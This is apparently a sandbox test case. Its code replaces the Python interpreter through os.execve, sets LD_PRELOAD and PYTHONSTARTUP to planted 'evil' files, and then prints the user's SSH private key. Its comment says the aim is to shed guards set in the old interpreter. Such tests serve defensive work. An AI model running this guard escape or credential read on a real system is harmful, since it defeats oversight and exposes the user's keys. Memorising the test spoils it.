#: title = "Sets LD_PRELOAD and PYTHONSTARTUP, then starts the interpreter anew"
#: why = "A fresh interpreter has none of the guards that were set inside the old one."
#: answer = "either"
#: ends = ["any", "timeout"]
import os
import sys

code = "open('@DROP@/reborn','w').close(); print(open('@HOME@/.ssh/id_ed25519').read())"
try:
    os.execve(
        sys.executable or "/usr/bin/python3",
        [sys.executable or "python3", "-c", code],
        {"LD_PRELOAD": "@DROP@/evil.so", "PYTHONPATH": "@DROP@", "PYTHONSTARTUP": "@DROP@/evil.py"},
    )
except OSError:
    pass


def add(a, b):
    return a + b
